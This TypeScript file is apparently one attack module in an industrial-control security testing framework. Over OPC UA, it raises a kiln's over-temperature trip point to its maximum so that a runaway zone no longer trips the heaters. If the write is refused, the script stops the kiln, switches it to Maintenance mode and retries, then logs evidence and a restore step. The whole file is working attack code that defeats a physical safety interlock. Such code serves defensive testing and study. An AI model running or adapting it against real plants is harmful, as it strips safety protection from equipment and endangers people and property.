/**
 * Safety-limit raise on OPC UA: the kiln's over-temperature trip point written to its highest
 * value, so a runaway zone no longer trips the heaters. A safety limit is written only by an
 * engineer in unit mode Maintenance, so when the plain write is refused the attack stops the
 * kiln, switches it to Maintenance and tries again.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, needTag, restore, trail, watch } from './common.ts';

/** the trip point the attacker wants [°C] (the field's maximum) */
const TRIP = 2000;
const MAINTENANCE = 2;

export const kilnTripRaise: Attack = {
  id: 'kiln-trip-raise',
  title: 'Kiln trip raise: the over-temperature interlock moved out of reach',
  techniques: [T.modifyParameter, T.modifyAlarmSettings],
  face: 'opcua',
  preconditions: ['a session that may write safety limits (an engineer\'s account, in unit mode Maintenance)', 'the kiln\'s node ids (opcua-browse)'],
  steps: [
    `write ${TRIP} °C to <kiln>.tripTemp`,
    'if refused: call PackML Stop, SetMode(2 Maintenance), and write again',
  ],
  expectedImpact: 'the kiln loses its over-temperature protection: a zone can run away without tripping the heaters',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { callMethod, nodeOf, openSession, readNumber, reason, untilModeMayChange, writeDouble } = await import('../clients/opcua.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    needTag(was, 'tripTemp', this.id, 'kiln');
    const f = await openSession(ctx, evidence);
    let status = 'no session';
    let stoppedIt = false;
    if (f !== null) {
      const trip = nodeOf(f, `${ctx.station}.tripTemp`);
      const pk = nodeOf(f, `${ctx.station}.PackML`);
      try {
        evidence.push(`OPC UA: ${ctx.station}.tripTemp is ${(await readNumber(f, trip)) ?? '?'} °C`);
        status = await writeDouble(f, trip, TRIP);
        evidence.push(`OPC UA: write ${ctx.station}.tripTemp = ${TRIP} → ${status}`);
        if (status !== 'Good') {
          const stop = await callMethod(f, pk, `${pk}.Stop`);
          stoppedIt = stop === 'Good';
          if (stoppedIt) await untilModeMayChange(f, ctx.station, 15_000);
          const mode = await callMethod(f, pk, `${pk}.SetMode`, [MAINTENANCE]);
          status = await writeDouble(f, trip, TRIP);
          evidence.push(`OPC UA: Stop → ${stop}, SetMode(${MAINTENANCE}) → ${mode}, write tripTemp = ${TRIP} → ${status}`);
        }
      } catch (e) {
        status = reason(e);
        evidence.push(`OPC UA: ${status}`);
      } finally {
        await f.close();
      }
    }
    const w = await watch(ctx, stoppedIt || status === 'Good' ? Math.min(ctx.watchMs, 2000) : 0);
    await trail(ctx, evidence, status !== 'Good');
    const after = w.last;
    const raised = after !== null && was !== null ? after.tags.tripTemp! > was.tags.tripTemp! : status === 'Good';
    return {
      outcome: raised ? 'succeeded' : 'blocked',
      evidence,
      impact: {
        tripTemp: [was?.tags.tripTemp ?? null, after?.tags.tripTemp ?? null], modeAfter: after?.mode ?? null, stateAfter: after?.state ?? null,
        downtimeS: w.downtimeS,
      },
    };
  },
  cleanup: restore,
};
